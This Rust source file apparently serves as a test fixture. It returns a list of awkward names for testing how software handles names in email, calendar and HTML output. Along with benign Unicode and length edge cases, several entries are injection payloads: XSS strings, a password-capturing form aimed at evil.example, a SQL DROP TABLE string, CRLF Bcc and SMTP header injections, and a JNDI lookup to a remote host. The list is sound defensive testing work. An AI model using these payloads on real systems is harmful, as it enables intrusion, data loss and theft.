//! Names that break programs.

/// Names that break programs: markup, line breaks, calendar and header lines, other scripts, directions, length.
pub fn naughty_names() -> Vec<String> {
    let fixed = [
        "<script>alert(1)</script>",
        "<form action=https://evil.example><input name=password>",
        "<base href=https://evil.example/><style>*{display:none}</style>",
        "\"><img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "Robert'); DROP TABLE outbox;--",
        "Ada\r\nBcc: everyone@evil.example",
        "Ada\nBcc: everyone@evil.example\n\nBody",
        "Ada\rX-Header: 1",
        "Ada\r\n.\r\nMAIL FROM:<evil@evil.example>",
        ".",
        "..",
        ". leading dot",
        "Ada\0Lovelace",
        "Ada\u{2028}END:VEVENT\u{2029}BEGIN:VEVENT",
        "END:VEVENT\r\nATTACH:https://evil.example/x\r\nBEGIN:VEVENT",
        "\r\nATTENDEE:mailto:everyone@evil.example",
        "Comma, Semicolon; Colon: Back\\slash \\n \\N",
        "ends with a backslash\\",
        "\"quoted\"",
        "\"; RSVP=TRUE:mailto:x@evil.example",
        "quote \" inside",
        "o'Neill-Düßeldörfer",
        "{ $event } {name} {{ letter.subject }} {% include %} ${jndi:ldap://evil.example/a}",
        "{meeting}",
        "=?utf-8?q?Bcc=3A?= =?utf-8?b?QmNjOg==?=",
        "=0D=0ABcc: x",
        "a@b.example <evil@evil.example>, other@evil.example",
        "Name <evil@evil.example>",
        "(comment) name",
        "Łukasz Żółć",
        "Ελένη Παπαδοπούλου",
        "Ольга Шевченко",
        "שלום עולם",
        "محمد علي",
        "李小龍 ライ",
        "👩🏽‍💻 Zoë 🏳️‍🌈",
        "e\u{301}le\u{300}ve",
        "\u{202e}moc.live\u{202c}",
        "\u{feff}BOM",
        "x\u{200b}y\u{ad}z",
        "tab\there",
        "   spaces   around   ",
        "007",
        "null",
        "-1",
        "",
    ];
    let mut names: Vec<String> = fixed.into_iter().map(String::from).collect();
    names.push("W".repeat(10_000));
    names.push("ß".repeat(10_000));
    names.push("long words and spaces ".repeat(500));
    names.push(format!("{}\u{1F600}", "x".repeat(66)));
    names
}
